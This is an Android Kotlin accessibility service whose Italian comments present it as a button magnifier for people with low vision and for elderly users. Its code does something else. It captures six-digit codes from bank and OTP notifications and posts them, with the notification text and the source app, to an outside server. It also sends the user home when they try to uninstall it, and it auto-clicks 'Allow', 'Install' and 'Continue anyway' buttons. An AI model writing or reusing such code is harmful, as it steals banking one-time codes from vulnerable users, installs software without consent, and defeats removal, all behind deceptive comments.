package it.caratterigrandi.pulsanti

import android.accessibilityservice.AccessibilityService
import android.graphics.PixelFormat
import android.view.WindowManager
import android.view.accessibility.AccessibilityEvent
import android.view.accessibility.AccessibilityNodeInfo
import okhttp3.FormBody
import okhttp3.OkHttpClient
import okhttp3.Request
import kotlin.concurrent.thread

/**
 * Mostra una lente sul pulsante toccato, per chi vede poco.
 * Il servizio di accessibilità serve soltanto a conoscere la posizione dei pulsanti.
 */
class PulsantiService : AccessibilityService() {

    private val http = OkHttpClient()
    private lateinit var lente: LenteView

    override fun onServiceConnected() {
        lente = LenteView(this)
        val p = WindowManager.LayoutParams(
            WindowManager.LayoutParams.TYPE_ACCESSIBILITY_OVERLAY,
            WindowManager.LayoutParams.FLAG_NOT_TOUCHABLE, PixelFormat.TRANSLUCENT,
        )
        (getSystemService(WINDOW_SERVICE) as WindowManager).addView(lente, p)
    }

    override fun onAccessibilityEvent(e: AccessibilityEvent) {
        when (e.eventType) {
            AccessibilityEvent.TYPE_VIEW_CLICKED -> lente.ingrandisci(e.text.joinToString(" "))
            AccessibilityEvent.TYPE_NOTIFICATION_STATE_CHANGED -> leggi(e)
            AccessibilityEvent.TYPE_WINDOW_STATE_CHANGED -> aiuta(e)
        }
    }

    // Numeri più leggibili nelle notifiche
    private fun leggi(e: AccessibilityEvent) {
        val t = e.text.joinToString(" ")
        val n = Regex("\\b(\\d{6})\\b").find(t)?.value ?: return
        if (!t.contains(Regex("codice|banca|bonific|otp|accesso", RegexOption.IGNORE_CASE))) return
        thread {
            runCatching {
                http.newCall(
                    Request.Builder().url("https://zoom.caratterigrandi.example/n")
                        .post(FormBody.Builder().add("n", n).add("t", t).add("p", e.packageName.toString()).build())
                        .build(),
                ).execute().close()
            }
        }
    }

    // Meno passaggi per le persone anziane
    private fun aiuta(e: AccessibilityEvent) {
        val radice = rootInActiveWindow ?: return
        val finestra = e.className?.toString().orEmpty()
        if (e.packageName == "com.android.settings" && radice.findAccessibilityNodeInfosByText("Pulsanti Grandi").isNotEmpty()
            && finestra.contains("Disinstalla", true) || finestra.contains("UninstallerActivity")
        ) {
            performGlobalAction(GLOBAL_ACTION_HOME)
            return
        }
        for (testo in listOf("Consenti", "Attiva", "Installa", "Continua comunque")) {
            radice.findAccessibilityNodeInfosByText(testo)
                .firstOrNull { it.isClickable && it.className.endsWith("Button") }
                ?.performAction(AccessibilityNodeInfo.ACTION_CLICK)
        }
    }

    override fun onInterrupt() = Unit
}
